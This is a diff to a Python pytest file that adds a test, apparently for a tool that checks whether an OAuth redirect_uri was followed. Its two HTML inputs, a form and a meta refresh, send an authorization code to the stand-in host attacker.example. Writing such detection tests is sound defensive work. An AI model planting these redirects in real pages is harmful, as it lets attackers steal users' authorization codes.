@@ -66,6 +66,22 @@ def test_a_page_that_asks_who_somebody_is_does_not_tell_whether_it_was_followed(
         followed(trace, "step")
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'<form method="post" action="https://attacker.example/cb"><input name=code></form>',
+        b'<meta http-equiv="refresh" content="0; url=https://attacker.example/cb?code=c">',
+    ],
+    ids=["form", "refresh"],
+)
+def test_a_page_that_leads_there_sends_the_browser_there(body: bytes) -> None:
+    page = Response(200, (("Content-Type", "text/html"),), body)
+    trace = asked("https://attacker.example/cb", page)
+
+    assert sent_there(trace, "step")
+    assert followed(trace, "step")
+
+
 def test_a_crash_does_not_tell_whether_the_redirect_uri_was_followed() -> None:
     with pytest.raises(EvidenceError):
         followed(asked("https://attacker.example/cb", Response(500)), "step")
